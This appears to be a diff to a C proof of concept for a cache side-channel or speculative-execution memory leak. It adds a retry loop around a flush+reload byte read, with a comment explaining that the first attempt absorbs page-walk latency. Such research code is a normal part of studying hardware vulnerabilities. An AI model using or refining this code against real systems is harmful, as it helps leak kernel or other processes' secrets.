@@ -18,6 +18,7 @@
 enum {
 	NO_COMMAND = 0x5eed,	/* of no file */
 	IOCTL_IN_TABLE = 0x50,	/* offset in struct file_operations */
+	ATTEMPTS = 2,
 };
 
 static const uint8_t *array, *branches[MOST_ADDRESSES];
@@ -37,10 +38,18 @@ static int read_byte(uint64_t address)
 	return reload_probe(probe);
 }
 
+/*
+ * Using the secret has brought it near, but not its translation where another process did it. The
+ * first attempt then spends what time there is on the walk, which spares it to the next.
+ */
 static int sample(int index)
 {
+	int value = NOTHING;
+
 	use_secret(index);
-	return read_byte(options.address + index);
+	for (int i = 0; i < ATTEMPTS && value == NOTHING; i++)
+		value = read_byte(options.address + index);
+	return value;
 }
 
 int main(int argc, char **argv)
